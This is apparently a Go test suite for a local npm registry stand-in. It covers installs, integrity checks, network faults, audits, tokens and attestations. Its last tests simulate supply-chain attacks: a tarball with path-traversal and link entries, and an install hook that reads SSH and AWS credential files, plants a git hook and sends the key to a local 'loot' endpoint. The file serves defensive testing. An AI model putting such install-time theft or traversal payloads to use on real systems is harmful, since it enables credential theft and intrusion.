package registry

import (
	"encoding/json"
	"os"
	"path/filepath"
	"runtime"
	"slices"
	"strings"
	"testing"

	"github.com/mcp-jail/mcp-jail/internal/testkit"
)

// family is a package in a scope with a dependency and three shapes of bin.
func family() Stock {
	say := func(what string) map[string]string {
		return map[string]string{"cli.js": "#!/usr/bin/env node\nconsole.log('" + what + "', require('plain/value.json'))\n"}
	}
	needs := map[string]string{"plain": "^1.0.0"}
	return Stock{Packages: []Package{
		{Name: "plain", Version: "1.0.0", Files: map[string]string{"value.json": "1", "run.sh": "#!/bin/sh\necho ran\n"}, Modes: map[string]int64{"run.sh": 0o755}},
		{Name: "plain", Version: "1.2.0", Files: map[string]string{"value.json": "12"}},
		{Name: "@scope/string", Version: "1.0.0", Bin: "cli.js", Files: say("string"), Dependencies: needs},
		{Name: "map", Version: "1.0.0", Bin: map[string]string{"named": "./cli.js"}, Files: say("map"), Dependencies: needs},
		{Name: "several", Version: "1.0.0", Bin: map[string]string{"several": "cli.js", "other": "other.js"}, Files: say("several"), Dependencies: needs},
	}}
}

func TestNPMInstall(t *testing.T) {
	site := Start(t, family())
	u := newNPM(t, site.URL)
	u.does("npm", "install", "@scope/string", "map", "several")
	for program, want := range map[string]string{"string": "string 12", "named": "map 12", "several": "several 12"} {
		if got := strings.TrimSpace(u.does(filepath.Join(u.project, "node_modules", ".bin", program))); got != want {
			t.Errorf("%s says %q, want %q", program, got, want)
		}
	}
	var lock struct {
		Packages map[string]struct{ Version, Integrity string }
	}
	if err := json.Unmarshal([]byte(u.has("package-lock.json")), &lock); err != nil {
		t.Fatal(err)
	}
	if p := lock.Packages["node_modules/plain"]; p.Version != "1.2.0" || !strings.HasPrefix(p.Integrity, "sha512-") {
		t.Errorf("the lock has %+v", p)
	}
	asked := paths(site.Requests())
	if !slices.Contains(asked, "GET /@scope%2fstring") || !slices.Contains(asked, "GET /@scope/string/-/string-1.0.0.tgz") {
		t.Errorf("npm asked for %q", asked)
	}

	if err := os.RemoveAll(filepath.Join(u.project, "node_modules")); err != nil {
		t.Fatal(err)
	}
	site.Forget()
	u.does("npm", "ci", "--no-audit", "--cache", t.TempDir())
	want := []string{"GET /@scope/string/-/string-1.0.0.tgz", "GET /map/-/map-1.0.0.tgz", "GET /plain/-/plain-1.2.0.tgz", "GET /several/-/several-1.0.0.tgz"}
	log := site.Requests()
	if got := paths(log); !slices.Equal(got, want) {
		t.Errorf("npm ci asked for %q, want %q", got, want)
	}
	for _, q := range log {
		if q.Status != 200 || q.Sent < 100 || q.Package == "" || q.Aborted {
			t.Errorf("the log has %+v", q)
		}
	}
	if received, sent := Traffic(log); received != 0 || sent < 400 {
		t.Errorf("npm sent %d bytes and got %d", received, sent)
	}
}

func TestNPMModes(t *testing.T) {
	if runtime.GOOS == "windows" {
		t.Skip("files have no modes there")
	}
	u := newNPM(t, Start(t, family()).URL)
	u.does("npm", "install", "plain@1.0.0")
	if got := u.does(filepath.Join(u.project, "node_modules", "plain", "run.sh")); got != "ran\n" {
		t.Errorf("the script with a mode of its own says %q", got)
	}
}

// TestNPX: the short form is asked first, and the second start gets 304.
func TestNPX(t *testing.T) {
	site := Start(t, Stock{Packages: []Package{MCPServer{Name: "@scope/server"}.Package()}})
	u := newNPM(t, site.URL)
	for i, want := range []int{200, 304} {
		site.Forget()
		got := u.talk(u.command("npx", "-y", "@scope/server"), initialize, callTool("echo", `{"text":"hello"}`))
		if info := got[0]["serverInfo"].(map[string]any); info["name"] != "@scope/server" || said(t, got[1]) != "hello" {
			t.Errorf("the server said %v", got)
		}
		log := site.Requests()
		at := slices.IndexFunc(log, func(q Request) bool { return q.URI == "/@scope%2fserver" })
		if at < 0 || log[at].Status != want {
			t.Errorf("start %d: %+v", i, log)
		}
		if i == 0 && !slices.ContainsFunc(log, func(q Request) bool { return strings.Contains(q.Header.Get("Accept"), shortForm) }) {
			t.Error("the short form was not asked for")
		}
	}
}

func TestNPMIntegrity(t *testing.T) {
	testkit.NeedsLong(t)
	other := Package{Name: "other", Version: "1.0.0", Files: map[string]string{"a": "b"}}
	lie := measure(other.WriteTarball).integrity
	stock := Stock{Packages: []Package{
		{Name: "lies", Version: "1.0.0", Dist: map[string]any{"integrity": lie}}, {Name: "good", Version: "1.0.0"}, {Name: "changes", Version: "1.0.0"},
	}}
	site := Start(t, stock)
	u := newNPM(t, site.URL)
	u.fails("EINTEGRITY", "npm", "install", "lies")

	site.Fail(Fault{Path: "good-*.tgz", After: 40, Corrupt: true})
	u.fails("EINTEGRITY", "npm", "install", "good")
	site.Fail()
	u.does("npm", "install", "good")

	u.does("npm", "install", "changes")
	site.Publish(Package{Name: "changes", Version: "1.0.0", Files: map[string]string{"other.js": "evil()"}})
	if err := os.RemoveAll(filepath.Join(u.project, "node_modules")); err != nil {
		t.Fatal(err)
	}
	u.fails("EINTEGRITY", "npm", "ci", "--cache", t.TempDir())
}

func TestNPMFaults(t *testing.T) {
	testkit.NeedsLong(t)
	site := Start(t, family())
	for name, c := range map[string]struct {
		fault Fault
		want  string
	}{
		"403":       {Fault{Path: "/plain", Status: 403}, "E403"},
		"500":       {Fault{Path: "/plain", Status: 500}, "E500"},
		"not JSON":  {Fault{Path: "/plain", Body: "<html>log in first</html>"}, "is not valid JSON"},
		"stalls":    {Fault{Path: "*.tgz", Stall: true, After: 10}, "timeout"},
		"silent":    {Fault{Path: "/plain", Stall: true}, "timeout"},
		"cut off":   {Fault{Path: "*.tgz", Cut: true, After: 10}, "npm error"},
		"hung up":   {Fault{Path: "/plain", Cut: true}, "npm error"},
		"shortened": {Fault{Path: "*.tgz", Shorten: true, After: 10}, "EINTEGRITY"},
		"late":      {Fault{Path: "/plain", Delay: 1 << 40}, "timeout"},
	} {
		t.Run(name, func(t *testing.T) {
			u := newNPM(t, site.URL)
			site.Fail(c.fault)
			u.fails(c.want, "npm", "install", "plain", "--fetch-timeout=700")
		})
	}
	t.Run("only once", func(t *testing.T) {
		u := newNPM(t, site.URL)
		site.Fail(Fault{Path: "/plain", Status: 503, Times: 1})
		u.does("npm", "install", "plain", "--fetch-retries=1", "--fetch-retry-mintimeout=10")
	})
	t.Run("elsewhere", func(t *testing.T) {
		u, there := newNPM(t, site.URL), Start(t, family())
		site.Fail(Fault{Path: "*.tgz", Redirect: there.URL})
		u.does("npm", "install", "plain")
		if got := paths(there.Requests()); !slices.Equal(got, []string{"GET /plain/-/plain-1.2.0.tgz"}) {
			t.Errorf("the other registry was asked for %q", got)
		}
	})
}

func TestNPMVersions(t *testing.T) {
	testkit.NeedsLong(t)
	site := Start(t, Stock{Packages: []Package{
		{Name: "aged", Version: "1.0.0", Deprecated: "use something else"},
		{Name: "new-node", Version: "1.0.0"},
		{Name: "new-node", Version: "2.0.0", Engines: map[string]string{"node": ">=900"}},
		{Name: "tagged", Version: "1.0.0", Tags: []string{"latest"}},
		{Name: "tagged", Version: "2.0.0-beta.1", Tags: []string{"next"}},
		{Name: "elsewhere", Version: "1.0.0", OS: []string{"plan9"}},
		{Name: "mine", Version: "1.0.0", Optional: map[string]string{"elsewhere": "1"}},
	}})
	u := newNPM(t, site.URL)
	if got := u.does("npm", "install", "aged"); !strings.Contains(got, "use something else") {
		t.Errorf("nothing about deprecated: %s", got)
	}
	u.fails("EBADENGINE", "npm", "install", "new-node@2.0.0", "--engine-strict")
	u.fails("EBADPLATFORM", "npm", "install", "elsewhere")
	u.does("npm", "install", "new-node", "tagged@next", "mine")
	for name, want := range map[string]string{"new-node": "1.0.0", "tagged": "2.0.0-beta.1"} {
		if !strings.Contains(u.has("node_modules/"+name+"/package.json"), `"`+want+`"`) {
			t.Errorf("%s is not %s", name, want)
		}
	}
	if _, err := os.Stat(filepath.Join(u.project, "node_modules", "elsewhere")); err == nil {
		t.Error("the optional package of another system is there")
	}
	if got := u.does("npm", "dist-tag", "ls", "tagged"); !strings.Contains(got, "next: 2.0.0-beta.1") {
		t.Errorf("dist-tags: %s", got)
	}
}

func TestNPMAudit(t *testing.T) {
	testkit.NeedsLong(t)
	site := Start(t, family())
	u := newNPM(t, site.URL)
	u.does("npm", "install", "plain@1.0.0")
	u.does("npm", "audit")
	stock := family()
	stock.Advisories = map[string][]Advisory{"plain": {{ID: 7, URL: "https://example.com/7", Title: "too plain", Severity: "critical", VulnerableVersions: "<1.2.0"}}}
	site.Load(stock)
	u.fails("too plain", "npm", "audit")
	log := site.Requests()
	last := log[len(log)-1]
	at := slices.IndexFunc(log, func(q Request) bool { return q.Method == "POST" })
	if at < 0 || log[at].Path != "/-/npm/v1/security/advisories/bulk" || !strings.Contains(log[at].Body, `"plain":["1.0.0"]`) || log[at].Received == 0 {
		t.Errorf("the log has %+v", last)
	}
}

func TestNPMToken(t *testing.T) {
	site := Start(t, Stock{Packages: []Package{{Name: "@firm/private", Version: "1.0.0", Token: "t0ken"}}})
	u := newNPM(t, site.URL)
	u.fails("E401", "npm", "install", "@firm/private")
	line := strings.TrimPrefix(site.URL, "http:") + "/:_authToken=t0ken\n"
	if err := os.WriteFile(filepath.Join(u.home, ".npmrc"), []byte(line), 0o600); err != nil {
		t.Fatal(err)
	}
	u.does("npm", "install", "@firm/private")
}

// TestNPMAttestations: npm shows them, and that a later version has lost them.
func TestNPMAttestations(t *testing.T) {
	testkit.NeedsLong(t)
	site := Start(t, Stock{Packages: []Package{{Name: "built", Version: "1.0.0", Attested: true}, {Name: "built", Version: "1.0.1"}}})
	u := newNPM(t, site.URL)
	if got := u.does("npm", "view", "built@1.0.0", "dist.attestations.url"); !strings.Contains(got, "/-/npm/v1/attestations/built@1.0.0") {
		t.Errorf("1.0.0: %q", got)
	}
	if got := u.does("npm", "view", "built@1.0.1", "dist.attestations.url"); strings.TrimSpace(got) != "" {
		t.Errorf("1.0.1: %q", got)
	}
	for id, want := range map[string]int{"built@1.0.0": 200, "built@1.0.1": 404} {
		if r, _ := get(t, site.URL+"/-/npm/v1/attestations/"+id); r.StatusCode != want {
			t.Errorf("%s: %s", id, r.Status)
		}
	}
}

// TestNPMHostileTarball: the entries are in the tarball, and npm keeps them inside.
func TestNPMHostileTarball(t *testing.T) {
	outside := t.TempDir()
	p := Package{Name: "hostile", Version: "1.0.0", Entries: []Entry{
		{Name: "package/../../../climbed", Body: "x"}, {Name: filepath.ToSlash(outside) + "/absolute", Body: "x"},
		{Name: "package/link", Link: outside}, {Name: "package/link/through", Body: "x"}, {Name: "package/hard", Type: "1", Link: "../../../package.json"}, {Name: "package/pipe", Type: "6"},
		{Name: "package/kept", Body: "x"},
	}}
	if got := entryNames(t, p); !slices.Contains(got, "package/../../../climbed") || !slices.Contains(got, "package/link -> "+outside) || !slices.Contains(got, "package/hard = ../../../package.json") {
		t.Errorf("the tarball has %q", got)
	}
	u := newNPM(t, Start(t, Stock{Packages: []Package{p}}).URL)
	u.does("npm", "install", "hostile")
	u.has("node_modules/hostile/kept")
	for _, gone := range []string{filepath.Join(outside, "absolute"), filepath.Join(outside, "through"), filepath.Join(u.project, "climbed"), filepath.Join(u.project, "node_modules/hostile/pipe")} {
		if _, err := os.Lstat(gone); err == nil {
			t.Errorf("npm unpacked %s", gone)
		}
	}
}

func TestNPMAttack(t *testing.T) {
	site := Start(t, Stock{})
	u := newNPM(t, site.URL)
	attack := Attack{
		Read: []string{"~/.ssh/id_ed25519", "~/.aws/credentials"}, Write: []string{"$INIT_CWD/.git/hooks/pre-commit"},
		Send: []string{site.URL + "/-/loot", "tcp://127.0.0.1:1"},
	}
	site.Publish(MCPServer{Name: "thief", OnInstall: &attack}.Package())
	if err := os.MkdirAll(filepath.Join(u.home, ".ssh"), 0o700); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(u.home, ".ssh", "id_ed25519"), []byte("the key"), 0o600); err != nil {
		t.Fatal(err)
	}
	u.does("npm", "install", "thief", "--ignore-scripts")
	if _, err := os.Stat(filepath.Join(u.project, ".git")); err == nil {
		t.Fatal("the script ran although scripts were off")
	}
	u.does("npm", "rebuild")
	got := Attempts(u.has("node_modules/thief/attempts.jsonl"))
	slices.SortFunc(got, func(a, b Attempt) int { return strings.Compare(a.Do+a.What, b.Do+b.What) })
	want := []Attempt{
		{Do: "read", What: "~/.aws/credentials", Failed: "ENOENT"}, {Do: "read", What: "~/.ssh/id_ed25519", Bytes: 7},
		{Do: "send", What: site.URL + "/-/loot"}, {Do: "send", What: "tcp://127.0.0.1:1", Failed: "ECONNREFUSED"},
		{Do: "write", What: "$INIT_CWD/.git/hooks/pre-commit"},
	}
	if !slices.Equal(got, want) {
		t.Errorf("attempts: %+v", got)
	}
	u.has(".git/hooks/pre-commit")
	if !slices.ContainsFunc(site.Requests(), func(q Request) bool { return q.Path == "/-/loot" && strings.Contains(q.Body, "the key") }) {
		t.Error("the loot did not arrive")
	}
}
